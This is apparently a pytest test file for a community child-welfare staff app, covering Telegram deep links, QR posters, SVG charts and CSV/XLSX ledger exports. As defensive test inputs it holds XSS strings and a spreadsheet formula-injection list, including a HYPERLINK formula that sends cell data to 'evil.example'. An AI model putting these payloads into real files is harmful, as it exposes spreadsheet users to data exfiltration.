"""The staff app's leaf modules: QR posters, SVG charts and ledger exports."""

from __future__ import annotations

import csv
import io
import os
import re
import xml.etree.ElementTree as ET
from datetime import date, datetime

import pytest

from staff import charts, deep_link as deep_link_module, export, poster, poster_font
from staff.charts import EMPTY_TEXT, bar_chart_svg, column_chart_svg
from staff.export import LEDGER_COLUMNS, ledger_csv, ledger_xlsx
from staff.deep_link import deep_link
from staff.poster import poster_pdf, poster_png
from staff.poster_font import PosterFontError
from tests.conftest import env_flag

SVG_NS = "{http://www.w3.org/2000/svg}"
CODE = "sz-baoan_haiwang-01"
LINK = f"https://t.me/TongbanBot?start={CODE}"
COMMITTEE = "海旺社区居民委员会"
AREA = "广东省深圳市宝安区新安街道"


def _font_or_skip():
    """The PNG poster needs a CJK font (scripts/ensure-browser installs one). Without it the
    PNG tests skip, or fail when TONGBAN_REQUIRE_BROWSER=1 (as in CI)."""
    try:
        return poster_font.find_poster_font()
    except PosterFontError as exc:
        if env_flag("TONGBAN_REQUIRE_BROWSER"):
            pytest.fail(str(exc), pytrace=False)
        pytest.skip(str(exc))


# -------------------------------------------------------------------------- deep links


def test_deep_link():
    assert deep_link("TongbanBot", "abc_DEF-123") == "https://t.me/TongbanBot?start=abc_DEF-123"
    assert deep_link("@TongbanBot", "x") == "https://t.me/TongbanBot?start=x"
    assert deep_link("TongbanBot", "a" * 64).endswith("=" + "a" * 64)


@pytest.mark.parametrize("code", ["", "a" * 65, "has space", "中文码", "a/b", "a?b=c", "a+b",
                                  "x\n", None])
def test_deep_link_rejects_invalid_codes(code):
    with pytest.raises(ValueError, match="推荐码"):
        deep_link("TongbanBot", code)


@pytest.mark.parametrize("username", ["", "bot", "1TongbanBot", "tongban-bot", "a" * 33])
def test_deep_link_rejects_invalid_usernames(username):
    with pytest.raises(ValueError, match="用户名"):
        deep_link(username, "abc")


# ------------------------------------------------------------------------------ posters


def _decode_qr(png: bytes) -> list:
    zxingcpp = pytest.importorskip("zxingcpp")
    from PIL import Image

    return zxingcpp.read_barcodes(Image.open(io.BytesIO(png)).convert("L"))


def test_poster_png_is_a4_and_carries_the_link():
    _font_or_skip()
    from PIL import Image

    png = poster_png(link=LINK, committee_name=COMMITTEE, area_name=AREA, code=CODE)
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    image = Image.open(io.BytesIO(png))
    dpi = image.info["dpi"][0]
    assert dpi >= 150
    width_in, height_in = image.width / dpi, image.height / dpi
    assert abs(width_in * 25.4 - 210) < 1 and abs(height_in * 25.4 - 297) < 1
    assert image.height > image.width  # portrait

    results = _decode_qr(png)
    assert [r.text for r in results] == [LINK]
    assert results[0].ec_level in ("M", "Q", "H")


def test_poster_png_qr_survives_downscaling():
    """A phone photo of a poster is far below print resolution: the QR must still read."""
    _font_or_skip()
    from PIL import Image

    link = deep_link("TongbanBot", "c" * 64)  # the longest payload Telegram allows
    png = poster_png(link=link, committee_name=COMMITTEE, area_name=AREA, code="c" * 64)
    small = Image.open(io.BytesIO(png)).resize((600, 849), Image.Resampling.LANCZOS)
    buffer = io.BytesIO()
    small.save(buffer, "PNG")
    assert [r.text for r in _decode_qr(buffer.getvalue())] == [link]


def test_poster_longest_inputs_still_fit():
    """The longest accepted names, username and code: the text wraps, the QR shrinks a
    little, and nothing runs into the footer (which would raise)."""
    pypdf = pytest.importorskip("pypdf")
    code = "Z" * 64
    link = deep_link("T" + "b" * 31, code)
    args = dict(link=link, committee_name="新" * 60, area_name="广" * 80, code=code)
    text = pypdf.PdfReader(io.BytesIO(poster_pdf(**args))).pages[0].extract_text()
    assert "110" in text and "新新新" in text
    _font_or_skip()
    assert [r.text for r in _decode_qr(poster_png(**args))] == [link]


def test_poster_pdf_one_a4_page_with_text():
    pypdf = pytest.importorskip("pypdf")

    pdf = poster_pdf(link=LINK, committee_name=COMMITTEE, area_name=AREA, code=CODE)
    assert pdf.startswith(b"%PDF")
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    assert len(reader.pages) == 1
    box = reader.pages[0].mediabox
    assert abs(float(box.width) - 595.3) < 1 and abs(float(box.height) - 841.9) < 1
    text = reader.pages[0].extract_text()
    for expected in (CODE, COMMITTEE, AREA, LINK, "110", "童伴",
                     "用手机扫码，在 Telegram 中打开童伴", "问上学、医保、疫苗等政策，申请帮扶"):
        assert expected in text, expected
    assert "微信" not in text


def test_poster_pdf_qr_decodes_when_rendered(tmp_path):
    """Rasterise the PDF (pdftoppm, when installed) and read the QR back."""
    import shutil
    import subprocess

    if not shutil.which("pdftoppm"):
        pytest.skip("pdftoppm (poppler-utils) not installed")
    pdf_path = tmp_path / "poster.pdf"
    pdf_path.write_bytes(poster_pdf(link=LINK, committee_name=COMMITTEE, area_name=AREA,
                                    code=CODE))
    subprocess.run(["pdftoppm", "-r", "100", "-png", "-singlefile", str(pdf_path),
                    str(tmp_path / "page")], check=True, timeout=60)
    assert [r.text for r in _decode_qr((tmp_path / "page.png").read_bytes())] == [LINK]


def test_poster_is_deterministic():
    pdf1 = poster_pdf(link=LINK, committee_name=COMMITTEE, area_name=AREA, code=CODE)
    pdf2 = poster_pdf(link=LINK, committee_name=COMMITTEE, area_name=AREA, code=CODE)
    assert pdf1 == pdf2


@pytest.mark.parametrize("kwargs, message", [
    (dict(code="bad code"), "推荐码"),
    (dict(link="https://t.me/TongbanBot?start=other"), "不一致"),
    (dict(link="javascript:alert(1)"), "链接"),
    (dict(committee_name="  "), "居委会名称"),
    (dict(committee_name="长" * 61), "过长"),
])
def test_poster_rejects_bad_input(kwargs, message):
    args = dict(link=LINK, committee_name=COMMITTEE, area_name=AREA, code=CODE) | kwargs
    with pytest.raises(ValueError, match=message):
        poster_pdf(**args)
    with pytest.raises(ValueError, match=message):
        poster_png(**args)


def test_poster_font_override_must_exist(monkeypatch, tmp_path):
    monkeypatch.setenv(poster_font.FONT_ENV, str(tmp_path / "missing.ttf"))
    with pytest.raises(PosterFontError, match="TONGBAN_POSTER_FONT"):
        poster_font.find_poster_font()
    not_a_font = tmp_path / "x.ttf"
    not_a_font.write_bytes(b"not a font")
    monkeypatch.setenv(poster_font.FONT_ENV, str(not_a_font))
    with pytest.raises(PosterFontError):
        poster_font.find_poster_font()


def test_poster_font_override_without_cjk_is_rejected(monkeypatch):
    latin_only = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"
    if not os.path.isfile(latin_only):
        pytest.skip("DejaVu Sans not installed")
    monkeypatch.setenv(poster_font.FONT_ENV, latin_only)
    with pytest.raises(PosterFontError, match="Chinese"):
        poster_font.find_poster_font()


def test_poster_font_override_is_used(monkeypatch):
    found = _font_or_skip()
    monkeypatch.setenv(poster_font.FONT_ENV, found.path)
    assert poster_font.find_poster_font().path == found.path


def test_no_font_gives_a_clear_error(monkeypatch, tmp_path):
    monkeypatch.delenv(poster_font.FONT_ENV, raising=False)
    monkeypatch.setattr(poster_font, "FONT_CANDIDATES", [])
    monkeypatch.setattr(poster_font, "_FONT_DIR", tmp_path)
    monkeypatch.setattr(poster_font, "_fc_list_candidates", lambda: [])
    poster_font._resolve_font.cache_clear()
    try:
        with pytest.raises(PosterFontError, match="fonts-wqy-microhei"):
            poster_png(link=LINK, committee_name=COMMITTEE, area_name=AREA, code=CODE)
    finally:
        poster_font._resolve_font.cache_clear()


# ------------------------------------------------------------------------------- charts


def _parse(svg: str) -> ET.Element:
    root = ET.fromstring(svg)  # well-formed XML, or this raises
    assert root.tag == SVG_NS + "svg"
    assert root.get("role") == "img"
    assert root.get("aria-label")
    assert root.find(SVG_NS + "title") is not None
    return root


def _texts(root: ET.Element) -> list[str]:
    return [t.text or "" for t in root.iter(SVG_NS + "text")]


def test_bar_chart_labels_values_and_gridlines():
    data = [("海旺社区", 42), ("灵芝社区", 118), ("翻身社区", 7)]
    root = _parse(bar_chart_svg("各社区重点关爱儿童人数", data))
    assert root.find(SVG_NS + "title").text == "各社区重点关爱儿童人数"
    assert root.get("aria-label") == "各社区重点关爱儿童人数"
    texts = _texts(root)
    for label, value in data:
        assert label in texts and str(value) in texts
    rects = list(root.iter(SVG_NS + "rect"))
    widths = [float(r.get("width")) for r in rects]
    assert widths[1] > widths[0] > widths[2] > 0  # proportional to the values
    ticks = [t for t in texts if t.isdigit() and t not in ("42", "118", "7")]
    assert ticks and all(int(t) == float(t) for t in ticks)
    assert int(ticks[-1]) >= 118
    assert "海旺社区：42" in root.find(SVG_NS + "desc").text


def test_column_chart_by_month():
    data = [(f"2026-{m:02d}", v) for m, v in zip(range(1, 7), [3, 5, 0, 12, 8, 1])]
    root = _parse(column_chart_svg("每月新纳入台账人数", data))
    texts = _texts(root)
    assert "2026-01" in texts and "12" in texts
    heights = [float(r.get("height")) for r in root.iter(SVG_NS + "rect")]
    assert len(heights) == 6 and heights[3] == max(heights) and heights[2] == 0
    assert root.get("width") == "560" and root.get("height") == "240"


def test_column_chart_many_months_thins_labels():
    data = [(f"{2024 + i // 12}-{i % 12 + 1:02d}", i) for i in range(36)]
    root = _parse(column_chart_svg("三年", data))
    month_labels = [t for t in _texts(root) if "-" in t]
    assert 0 < len(month_labels) < 36
    assert len(list(root.iter(SVG_NS + "rect"))) == 36
    # every column still names its month in a tooltip
    assert len([t for t in root.iter(SVG_NS + "title")]) == 37


@pytest.mark.parametrize("render", [bar_chart_svg, column_chart_svg])
def test_charts_escape_labels(render):
    svg = render('<script>alert("x")</script> & \'q\'', [('<script>alert(1)</script>', 3),
                                                       ('a"b&c\x00', 1)])
    assert "<script>" not in svg
    assert "&lt;script&gt;" in svg
    root = _parse(svg)
    assert '<script>alert(1)</script>' in "".join(_texts(root)) + "".join(
        t.text or "" for t in root.iter(SVG_NS + "title"))
    assert root.find(SVG_NS + "script") is None and not list(root.iter("script"))


@pytest.mark.parametrize("render", [bar_chart_svg, column_chart_svg])
def test_charts_empty_and_all_zero(render):
    empty = _parse(render("空", []))
    assert EMPTY_TEXT in _texts(empty)
    assert not list(empty.iter(SVG_NS + "rect"))

    zeros = _parse(render("全为零", [("甲", 0), ("乙", 0)]))
    texts = _texts(zeros)
    assert "甲" in texts and "0" in texts
    for rect in zeros.iter(SVG_NS + "rect"):
        assert float(rect.get("width")) >= 0 and float(rect.get("height")) >= 0
    assert not re.search(r'"-?(nan|inf)"', render("全为零", [("甲", 0)]), re.IGNORECASE)


def test_nice_ticks_are_integers():
    assert charts._nice_ticks(0) == [0, 1]
    assert charts._nice_ticks(3) == [0, 1, 2, 3]
    assert charts._nice_ticks(7) == [0, 2, 4, 6, 8]
    assert charts._nice_ticks(118) == [0, 50, 100, 150]
    for top in range(0, 2000, 37):
        ticks = charts._nice_ticks(top)
        assert ticks[0] == 0 and ticks[-1] >= top and len(ticks) <= 7
        assert all(isinstance(t, int) for t in ticks)


# ------------------------------------------------------------------------------ exports

HEADERS = [header for _, header in LEDGER_COLUMNS]


def _row(**overrides) -> dict:
    row = {
        "reference": "TB-2026-000123",
        "child_name": "王小明",
        "child_age": 9,
        "hukou": "河南省周口市",
        "residence": "广东省深圳市宝安区",
        "months_at_residence": 14,
        "guardian_name": "王芳",
        "guardian_relation": "母亲",
        "guardian_phone": "013800138000",
        "situations": ["family_hardship", "self_request"],
        "area_code": "440306001001",
        "accepted_on": date(2026, 3, 1),
        "last_visit_on": date(2026, 6, 1),
        "next_visit_on": date(2026, 9, 1),
        "next_review_on": None,
        "status": "在册",
    }
    row.update(overrides)
    return row


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def _read_xlsx(data: bytes):
    import openpyxl

    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_ledger_columns():
    keys = [key for key, _ in LEDGER_COLUMNS]
    assert keys[:3] == ["reference", "child_name", "child_age"]
    assert len(set(keys)) == len(keys) == 16
    assert dict(LEDGER_COLUMNS)["guardian_phone"] == "联系电话"


def test_csv_round_trip():
    data = ledger_csv([_row(), _row(reference="TB-2026-000124", next_review_on="2026-12-01")])
    assert b"\r\n" in data and data.count(b"\r\n") == 3
    rows = _read_csv(data)
    assert rows[0] == HEADERS
    first = dict(zip(HEADERS, rows[1]))
    assert first["申请编号"] == "TB-2026-000123"
    assert first["儿童姓名"] == "王小明"
    assert first["年龄"] == "9"
    assert first["联系电话"] == "013800138000"
    assert first["所属区划代码"] == "440306001001"
    assert first["困境情形"] == "家庭生活困难、主动提出救助帮扶需求"
    assert first["纳入台账日期"] == "2026-03-01"
    assert first["下次复核日期"] == ""
    assert dict(zip(HEADERS, rows[2]))["下次复核日期"] == "2026-12-01"


def test_csv_empty_export_is_header_only():
    data = ledger_csv([])
    assert _read_csv(data) == [HEADERS]
    assert data.endswith(b"\r\n")


def test_numbers_for_text_columns_stay_digits():
    data = ledger_csv([_row(guardian_phone=13800138000, area_code=440306001001.0,
                            reference=123456789012345678)])
    first = dict(zip(HEADERS, _read_csv(data)[1]))
    assert first["联系电话"] == "13800138000"
    assert first["所属区划代码"] == "440306001001"
    assert first["申请编号"] == "123456789012345678"

    sheet = _read_xlsx(ledger_xlsx([_row(guardian_phone=13800138000, area_code=440306001001.0)]))
    phone = sheet.cell(2, HEADERS.index("联系电话") + 1)
    area = sheet.cell(2, HEADERS.index("所属区划代码") + 1)
    assert (phone.value, phone.data_type, phone.number_format) == ("13800138000", "s", "@")
    assert (area.value, area.data_type) == ("440306001001", "s")


INJECTIONS = ["=1+1", "+SUM(A1:A2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1",
              '=HYPERLINK("http://evil.example/?x="&A1,"点我")']


@pytest.mark.parametrize("payload", INJECTIONS)
def test_csv_formula_injection_is_neutralised(payload):
    data = ledger_csv([_row(child_name=payload, guardian_name=payload, status=payload)])
    first = dict(zip(HEADERS, _read_csv(data)[1]))
    for header in ("儿童姓名", "监护人姓名", "状态"):
        assert first[header] == "'" + payload


@pytest.mark.parametrize("payload", INJECTIONS)
def test_xlsx_formula_injection_is_stored_as_text(payload):
    sheet = _read_xlsx(ledger_xlsx([_row(child_name=payload, guardian_phone=payload)]))
    for header in ("儿童姓名", "联系电话"):
        cell = sheet.cell(2, HEADERS.index(header) + 1)
        assert cell.data_type == "s"  # a string, not a formula ("f")
        # (XML turns a bare CR into LF when the file is read back.)
        assert cell.value in (payload, payload.replace("\r", "\n"))
        assert cell.quotePrefix


def test_xlsx_round_trip_and_formatting():
    rows = [_row(), _row(reference="TB-2026-000124", child_name=None, child_age=None,
                         last_visit_on=datetime(2026, 7, 2, 15, 30))]
    sheet = _read_xlsx(ledger_xlsx(rows, title="宝安区重点关爱服务对象信息台账"))
    assert sheet.title == "宝安区重点关爱服务对象信息台账"
    assert [c.value for c in sheet[1]] == HEADERS
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 3
    values = {h: c.value for h, c in zip(HEADERS, sheet[2])}
    assert values["申请编号"] == "TB-2026-000123"
    assert values["年龄"] == 9
    assert values["联系电话"] == "013800138000"
    assert values["困境情形"] == "家庭生活困难、主动提出救助帮扶需求"
    accepted = sheet.cell(2, HEADERS.index("纳入台账日期") + 1)
    assert accepted.is_date and accepted.value.date() == date(2026, 3, 1)
    assert "yy" in accepted.number_format
    assert values["下次复核日期"] is None
    second = {h: c.value for h, c in zip(HEADERS, sheet[3])}
    assert second["儿童姓名"] is None and second["年龄"] is None
    assert second["最近走访日期"] == datetime(2026, 7, 2, 15, 30)
    # widths fit the content: the Chinese address column is wider than the age column
    width = {h: sheet.column_dimensions[chr(ord("A") + i)].width for i, h in enumerate(HEADERS)}
    assert width["居住地"] > width["年龄"] >= 6
    assert width["困境情形"] <= 60


def test_xlsx_iso_date_strings_become_dates():
    sheet = _read_xlsx(ledger_xlsx([_row(accepted_on="2026-03-01", next_visit_on="不详")]))
    accepted = sheet.cell(2, HEADERS.index("纳入台账日期") + 1)
    assert accepted.is_date and accepted.value.date() == date(2026, 3, 1)
    assert sheet.cell(2, HEADERS.index("下次走访日期") + 1).value == "不详"


def test_xlsx_empty_export_is_header_only():
    sheet = _read_xlsx(ledger_xlsx([]))
    assert sheet.max_row == 1
    assert [c.value for c in sheet[1]] == HEADERS


def test_situations_free_text_is_kept():
    data = ledger_csv([_row(situations="家庭生活困难；监护缺失"), _row(situations="disability"),
                       _row(situations="family_hardship,vagrancy")])
    rows = _read_csv(data)
    col = HEADERS.index("困境情形")
    assert [r[col] for r in rows[1:]] == [
        "家庭生活困难；监护缺失", "自身残疾", "家庭生活困难、流浪"]


@pytest.mark.slow
def test_exports_handle_10000_rows():
    """Every row, in order (how long they take: bench/staff_files.py)."""
    rows = [_row(reference=f"TB-2026-{i:06d}", child_age=i % 16) for i in range(10_000)]
    table = _read_csv(ledger_csv(rows))
    assert len(table) == 10_001 and table[-1][0] == "TB-2026-009999"

    sheet = _read_xlsx(ledger_xlsx(rows))
    assert sheet.max_row == 10_001
    assert sheet.cell(10_001, 1).value == "TB-2026-009999"


def test_export_accepts_a_generator():
    rows = (_row(reference=f"TB-{i}") for i in range(3))
    assert len(_read_csv(ledger_csv(rows))) == 4
    rows = (_row(reference=f"TB-{i}") for i in range(3))
    assert _read_xlsx(ledger_xlsx(rows)).max_row == 4


def _taken_from(module_name: str) -> set[str]:
    """The names the rest of the app takes from ``staff.<module_name>`` (``from staff.x import a``
    and ``from staff import x`` then ``x.a``)."""
    import ast
    from pathlib import Path

    taken: set[str] = set()
    root = Path(export.__file__).resolve().parent.parent
    for path in [*root.glob("staff/**/*.py"), *root.glob("tongban/**/*.py"), *root.glob("bot/**/*.py")]:
        if path.name == f"{module_name}.py" and path.parent.name == "staff":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        aliases = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module == f"staff.{module_name}":
                taken |= {alias.name for alias in node.names}
            elif isinstance(node, ast.ImportFrom) and node.module == "staff":
                aliases |= {alias.asname or alias.name for alias in node.names if alias.name == module_name}
        taken |= {node.attr for node in ast.walk(tree) if isinstance(node, ast.Attribute)
                  and isinstance(node.value, ast.Name) and node.value.id in aliases}
    return taken


@pytest.mark.parametrize("module", [export, charts, poster, poster_font, deep_link_module],
                         ids=["export", "charts", "poster", "poster_font", "deep_link"])
def test_module_exports_name_what_the_app_uses(module):
    """``__all__`` is the public surface: everything it names exists, and everything the rest of
    the app takes from the module is in it."""
    public = set(module.__all__)
    assert len(public) == len(module.__all__) and all(hasattr(module, name) for name in public)
    taken = _taken_from(module.__name__.rsplit(".", 1)[1])
    assert taken, f"nothing in the app uses {module.__name__}"
    assert taken <= public, f"used but private: {sorted(taken - public)}"
